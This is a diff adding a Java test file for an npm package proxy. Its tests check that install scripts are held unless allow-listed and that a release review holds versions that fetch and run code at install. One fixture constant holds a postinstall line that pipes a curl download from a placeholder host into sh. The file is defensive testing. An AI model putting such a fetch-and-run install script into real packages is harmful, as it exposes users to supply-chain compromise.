@@ -1,0 +1,173 @@
+package dev.warden.proxy;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.warden.storage.Upstreams.IngestedVersion;
+
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+import java.nio.file.Path;
+import java.time.Duration;
+import java.time.Instant;
+import java.util.List;
+import java.util.concurrent.CountDownLatch;
+import java.util.concurrent.ExecutorService;
+import java.util.concurrent.Executors;
+import java.util.concurrent.Future;
+import java.util.concurrent.atomic.AtomicReference;
+
+/** Install scripts, the release review, and one ingest at a time per version. */
+class PolicyIngestTest {
+
+    /** Inert: a script that would fetch and run, from a host under .invalid; never executed. */
+    private static final String FETCH_AND_RUN =
+            "\"postinstall\":\"curl -s https://cdn.example.invalid/x.sh | sh\"";
+
+    @TempDir Path dir;
+
+    private Instant daysAgo(Fixture f, int days) {
+        return f.clock.instant().minus(Duration.ofDays(days));
+    }
+
+    @Test
+    void installScriptsAreHeldWhenDenied() throws Exception {
+        try (Fixture f =
+                new Fixture(dir, ProxySettings.UnsignedUpstream.ALLOW, true, List.of("esbuild"))) {
+            f.up.publish(
+                    "native",
+                    "1.0.0",
+                    Tgz.of("native", "1.0.0", "\"install\":\"node-gyp rebuild\"").bytes(),
+                    daysAgo(f, 3));
+
+            IngestedVersion row = f.ingest("native", "1.0.0");
+
+            assertThat(row.state()).isEqualTo("held");
+            assertThat(row.reason())
+                    .isEqualTo(
+                            "install scripts are not allowed: native@1.0.0 runs its package.json or"
+                                + " binding.gyp in the tarball (proxy.install_scripts_allow lists"
+                                + " the packages that may)");
+        }
+    }
+
+    @Test
+    void installScriptsTheManifestHidesAreFoundInTheTarball() throws Exception {
+        try (Fixture f = new Fixture(dir, ProxySettings.UnsignedUpstream.ALLOW, true, List.of())) {
+            // The packument's manifest names no scripts; the tarball's binding.gyp runs node-gyp.
+            f.up.publish(
+                    "native",
+                    "1.0.0",
+                    Tgz.of("native", "1.0.0").file("binding.gyp", "{}").bytes(),
+                    daysAgo(f, 3));
+
+            assertThat(f.holds("native")).isEmpty();
+            assertThat(f.ingest("native", "1.0.0").reason())
+                    .startsWith("install scripts are not allowed");
+        }
+    }
+
+    @Test
+    void theManifestsScriptsAreHeldFromThePackument() throws Exception {
+        try (Fixture f = new Fixture(dir, ProxySettings.UnsignedUpstream.ALLOW, true, List.of())) {
+            f.up.publish("native", "1.0.0", Tgz.of("native", "1.0.0").bytes(), daysAgo(f, 3));
+            f.up.edit(
+                    "native", "1.0.0", v -> v.putObject("scripts").put("postinstall", "node x.js"));
+
+            assertThat(f.holds("native").get("1.0.0"))
+                    .isEqualTo(
+                            "install scripts are not allowed: native@1.0.0 runs postinstall"
+                                    + " (proxy.install_scripts_allow lists the packages that may)");
+        }
+    }
+
+    @Test
+    void installScriptsOfAnAllowedPackageAreServed() throws Exception {
+        try (Fixture f =
+                new Fixture(dir, ProxySettings.UnsignedUpstream.ALLOW, true, List.of("esbuild"))) {
+            f.up.publish(
+                    "esbuild",
+                    "1.0.0",
+                    Tgz.of("esbuild", "1.0.0", "\"postinstall\":\"node install.js\"").bytes(),
+                    daysAgo(f, 3));
+
+            IngestedVersion row = f.ingest("esbuild", "1.0.0");
+
+            assertThat(row.state()).isEqualTo("served");
+            assertThat(f.verified(row).path("verified").path("scripts").asText())
+                    .isEqualTo("allowed");
+        }
+    }
+
+    @Test
+    void installScriptsAreServedWhenAllowed() throws Exception {
+        try (Fixture f = new Fixture(dir)) {
+            f.up.publish(
+                    "native",
+                    "1.0.0",
+                    Tgz.of("native", "1.0.0", "\"install\":\"node-gyp rebuild\"").bytes(),
+                    daysAgo(f, 3));
+
+            assertThat(f.ingest("native", "1.0.0").state()).isEqualTo("served");
+        }
+    }
+
+    @Test
+    void theReleaseReviewHoldsAVersionThatFetchesAndRunsAtInstall() throws Exception {
+        try (Fixture f = new Fixture(dir)) {
+            f.up.publish("lib", "1.0.0", Tgz.of("lib", "1.0.0").bytes(), daysAgo(f, 3));
+            assertThat(f.ingest("lib", "1.0.0").state()).isEqualTo("served");
+            f.up.publish(
+                    "lib", "1.0.1", Tgz.of("lib", "1.0.1", FETCH_AND_RUN).bytes(), daysAgo(f, 1));
+
+            IngestedVersion row = f.ingest("lib", "1.0.1");
+
+            assertThat(row.state()).isEqualTo("held");
+            assertThat(row.reason())
+                    .startsWith("the release review holds it: ")
+                    .contains("install-script-fetches-and-runs");
+            assertThat(f.verified(row).path("verified").path("review").path("action").asText())
+                    .isIn("hold", "quarantine");
+        }
+    }
+
+    @Test
+    void aSecondRequestWaitsForTheFirstIngest() throws Exception {
+        try (Fixture f = new Fixture(dir)) {
+            f.up.publish("lib", "1.0.0", Tgz.of("lib", "1.0.0").bytes(), daysAgo(f, 3));
+            CountDownLatch fetching = new CountDownLatch(1);
+            CountDownLatch release = new CountDownLatch(1);
+            f.up.onTarball =
+                    () -> {
+                        fetching.countDown();
+                        try {
+                            release.await();
+                        } catch (InterruptedException e) {
+                            Thread.currentThread().interrupt();
+                        }
+                    };
+            ExecutorService pool = Executors.newFixedThreadPool(2);
+            try {
+                Future<IngestedVersion> first = pool.submit(() -> f.ingest("lib", "1.0.0"));
+                fetching.await();
+                AtomicReference<Thread> second = new AtomicReference<>();
+                Future<IngestedVersion> other =
+                        pool.submit(
+                                () -> {
+                                    second.set(Thread.currentThread());
+                                    return f.ingest("lib", "1.0.0");
+                                });
+                while (second.get() == null || second.get().getState() != Thread.State.WAITING) {
+                    Thread.onSpinWait();
+                }
+                release.countDown();
+
+                assertThat(other.get()).isEqualTo(first.get());
+                assertThat(f.up.requestsFor(".tgz")).isEqualTo(1);
+                assertThat(f.log.recorded).hasSize(1);
+            } finally {
+                pool.shutdownNow();
+            }
+        }
+    }
+}
